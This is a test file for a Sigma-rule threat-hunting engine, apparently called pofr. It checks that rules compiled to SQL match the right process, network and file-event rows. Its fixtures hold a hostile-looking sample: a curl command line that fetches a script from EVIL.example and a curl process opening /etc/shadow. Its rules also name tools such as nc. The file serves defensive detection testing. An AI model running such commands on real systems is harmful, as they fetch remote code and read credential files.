import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { KyselyPlugin } from 'kysely';
import {
  type Alert,
  type CompiledRule,
  compileRule,
  hunt,
  huntBatchOn,
  huntOn,
  huntSql,
  parseRule,
} from '../../src/detect/index.js';
import { type Store, sqliteCapabilities } from '../../src/store/index.js';
import { DIALECTS, withStore } from '../helpers/store-dialects.js';
import { huntFixture, NETWORK_CASES, PROCESS_CASES, rule } from './detect-fixture.js';

async function matches(store: Store, yaml: string): Promise<Alert[]> {
  const compiled = compileRule(parseRule(yaml, 'test.yml'), store.caps);
  assert.equal(compiled.status, 'ok', compiled.status === 'unsupported' ? compiled.reason : '');
  if (compiled.status !== 'ok') return [];
  return hunt(store, [compiled], { limit: 1000 });
}

async function pids(store: Store, yaml: string): Promise<number[]> {
  return (await matches(store, yaml)).map((a) => a.pid!).sort((a, b) => a - b);
}

/** A plugin that counts the statements run through it. */
function counter(): { plugin: KyselyPlugin; count: () => number } {
  let n = 0;
  return {
    plugin: {
      transformQuery: (args) => {
        n++;
        return args.node;
      },
      transformResult: async (args) => args.result,
    },
    count: () => n,
  };
}

for (const dialect of DIALECTS) {
  test(`[${dialect}] a hunt reads a parent's fields only for the rows a rule that reads them may match`, (t) =>
    withStore(t, dialect, async (store) => {
      await huntFixture(store);
      let n = 0;
      const compiled = (detection: string) => {
        // Each rule its own id, so the matches say which rule found them.
        const yaml = rule(detection).replace('-000000000001\n', `-00000000010${n++}\n`);
        const c = compileRule(parseRule(yaml, 'parent.yml'), store.caps);
        assert.equal(c.status, 'ok');
        return c as CompiledRule;
      };
      // Seven processes, three a page: three page reads without the parent's fields.
      const q = { limit: 1000, pageRows: 3 };
      const none = [
        compiled(`  sel:\n    ParentImage|endswith: /bash\n    Image|endswith: /nothing\n  condition: sel`),
      ];
      // An engine with cursors streams each table in one query, every field at once (the engine
      // joins the parents for the whole table): the statement counts below are those of pages.
      const paged = store.caps.cursor === null;
      const c1 = counter();
      assert.deepEqual(await huntOn(store.db.withPlugin(c1.plugin), none, q), []);
      if (paged) assert.equal(c1.count(), 3, 'no row has an image ending in /nothing: no parent read');
      // curl (row 101, bash's child) is a candidate: one read of its parent's fields, one of its alert.
      const rules = [
        compiled(`  sel:\n    ParentImage|endswith: /bash\n    Image|endswith: /curl\n  condition: sel`),
        compiled(
          `  sel:\n    ParentCommandLine: bash\n    CommandLine|contains: evil\n  filter:\n    ParentImage|startswith: /usr/sbin\n  condition: sel and not filter`,
        ),
        compiled(`  sel:\n    ParentImage|endswith: /zsh\n    CommandLine|contains: sh\n  condition: sel`),
        compiled(`  sel:\n    Image|endswith: /nc\n  condition: sel`),
      ];
      const c2 = counter();
      const found = await huntOn(store.db.withPlugin(c2.plugin), [rules[0]], q);
      assert.deepEqual(
        found.map((a) => [a.pid, a.parent_exe]),
        [[101, '/usr/bin/bash']],
      );
      if (paged) assert.equal(c2.count(), 5);
      // Whatever the page size, the same matches as each rule's own SQL.
      const key = (a: Alert) => `${a.rule_id} ${a.pid}`;
      const want = (await huntSql(store.db, rules, { limit: 1000 })).map(key).sort();
      assert.ok(want.length >= 3, JSON.stringify(want));
      for (const pageRows of [1, 2, 3, 1000]) {
        assert.deepEqual(
          (await hunt(store, rules, { limit: 1000, pageRows })).map(key).sort(),
          want,
          `pages of ${pageRows}`,
        );
      }
    }));

  test(`[${dialect}] each Sigma modifier and condition form selects exactly the rows it should`, (t) =>
    withStore(t, dialect, async (store) => {
      await huntFixture(store);
      for (const [name, detection, want] of PROCESS_CASES) {
        assert.deepEqual(await pids(store, rule(detection)), want, `process_creation: ${name}`);
      }
      for (const [name, detection, want] of NETWORK_CASES) {
        assert.deepEqual(await pids(store, rule(detection, 'network_connection')), want, `network: ${name}`);
      }
      assert.deepEqual(
        await pids(
          store,
          rule(`  sel:\n    TargetFilename|startswith: /etc/sha\n  condition: sel`, 'file_event'),
        ),
        [101],
      );
      const n = await store.db
        .selectFrom('processes')
        .select((eb) => eb.fn.countAll().as('n'))
        .executeTakeFirst();
      assert.equal(Number(n?.n), 7, 'the hostile command line changed nothing');
    }));

  test(`[${dialect}] live evaluation of each batch (tested in memory, confirmed in SQL) selects the same rows as hunt`, (t) =>
    withStore(t, dialect, async (store) => {
      const { host } = await huntFixture(store);
      const cases = [
        ...PROCESS_CASES.map(([n, d, w]) => [n, rule(d), w] as const),
        ...NETWORK_CASES.map(([n, d, w]) => [n, rule(d, 'network_connection'), w] as const),
      ];
      for (const [name, yaml, want] of cases) {
        const c = compileRule(parseRule(yaml, 'live.yml'), store.caps) as CompiledRule;
        const live = [
          ...(await huntBatchOn(store.db, [c], { hostId: host.hostId, seq: 1 }, 1000)),
          ...(await huntBatchOn(store.db, [c], { hostId: host.hostId, seq: 2 }, 1000)),
        ];
        assert.deepEqual(
          live.map((a) => a.pid!).sort((a, b) => a - b),
          want,
          `live: ${name}`,
        );
      }
    }));

  test(`[${dialect}] an alert carries the rule's id, title, level and author and the batch that recorded the row`, (t) =>
    withStore(t, dialect, async (store) => {
      const { hashes } = await huntFixture(store);
      const [proc] = await matches(store, rule(`  sel:\n    Image: /usr/bin/curl\n  condition: sel`));
      assert.equal(proc.rule_id, '00000000-0000-4000-8000-000000000001');
      assert.equal(proc.title, 'test rule');
      assert.equal(proc.level, 'high');
      assert.equal(proc.author, 'Test Author');
      assert.equal(proc.host, 'web1');
      assert.equal(proc.cmdline, 'curl -s http://EVIL.example/x.sh');
      assert.equal(proc.parent_exe, '/usr/bin/bash');
      assert.deepEqual([proc.batch_seq, proc.batch_hash], [1, hashes[0]]);
      const [f] = await matches(
        store,
        rule(`  sel:\n    TargetFilename: /etc/shadow\n  condition: sel`, 'file_event'),
      );
      assert.deepEqual(
        [f.table, f.path, f.exe, f.batch_seq, f.batch_hash],
        ['file_opens', '/etc/shadow', '/usr/bin/curl', 2, hashes[1]],
      );
      const [e] = await matches(
        store,
        rule(`  sel:\n    DestinationIp: 192.168.1.5\n  condition: sel`, 'network_connection'),
      );
      assert.deepEqual([e.table, e.remote_port, e.exe, e.batch_seq], ['endpoints', 443, '/usr/bin/curl', 2]);
    }));

  test(`[${dialect}] hunt keeps to the window and the hosts asked for`, (t) =>
    withStore(t, dialect, async (store) => {
      const { host } = await huntFixture(store);
      const c = compileRule(
        parseRule(rule(`  sel:\n    Image|startswith: /\n  condition: sel`), 'w.yml'),
        store.caps,
      );
      assert.equal(c.status, 'ok');
      if (c.status !== 'ok') return;
      const all = await hunt(store, [c], { limit: 100 });
      assert.equal(all.length, 7);
      const from = all[2].time;
      const to = all[4].time;
      assert.deepEqual(
        (await hunt(store, [c], { limit: 100, from, to })).map((a) => a.pid),
        [102, 103, 104],
      );
      assert.equal((await hunt(store, [c], { limit: 100, hosts: ['other'] })).length, 0);
      assert.equal((await hunt(store, [c], { limit: 100, hosts: [host.hostId] })).length, 7);
      assert.equal((await hunt(store, [c], { limit: 2 })).length, 2);
    }));
}

test('what pofr cannot express is unsupported, with the reason, never skipped', () => {
  const reasonOf = (yaml: string) => {
    const c = compileRule(parseRule(yaml, 'u.yml'), sqliteCapabilities);
    return c.status === 'unsupported' ? c.reason : 'ok';
  };
  assert.match(reasonOf(rule(`  sel:\n    LogonId: 0\n  condition: sel`)), /field "LogonId"/);
  assert.match(reasonOf(rule(`  sel:\n    CommandLine|base64: x\n  condition: sel`)), /modifier "base64"/);
  assert.match(reasonOf(rule(`  sel:\n    CommandLine|re|i: x\n  condition: sel`)), /modifier "i"/);
  assert.match(reasonOf(rule(`  keywords:\n    - evil\n  condition: keywords`)), /keyword/);
  assert.match(reasonOf(rule(`  sel:\n    Image: x\n  condition: sel | count() > 5`)), /aggregation/);
  assert.match(reasonOf(rule(`  sel:\n    Image: x\n  condition: other`)), /"other"/);
  assert.match(
    reasonOf(rule(`  sel:\n    Image: x\n  condition: sel`, 'process_access')),
    /category "process_access"/,
  );
  assert.match(
    reasonOf(rule(`  sel:\n    DestinationIp|cidr: '::/8'\n  condition: sel`, 'network_connection')),
    /cidr/,
  );
});

test('a malformed rule file is an error naming the file and line', () => {
  const text =
    'title: broken\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n    Image: [a, b\n  condition: sel\n';
  assert.throws(
    () => parseRule(text, 'rules/broken.yml'),
    (e: Error & { code?: string }) => {
      assert.equal(e.code, 'POFR_RULE_INVALID');
      assert.match(e.message, /^rules\/broken\.yml:\d+:\d+: /);
      const line = Number(e.message.split(':')[1]);
      assert.ok(line >= 6 && line <= 8, e.message);
      return true;
    },
  );
  assert.throws(
    () => parseRule('title: x\nlogsource: {}\n', 'no-detection.yml'),
    /no-detection\.yml:1:1: .*"detection"/,
  );
});
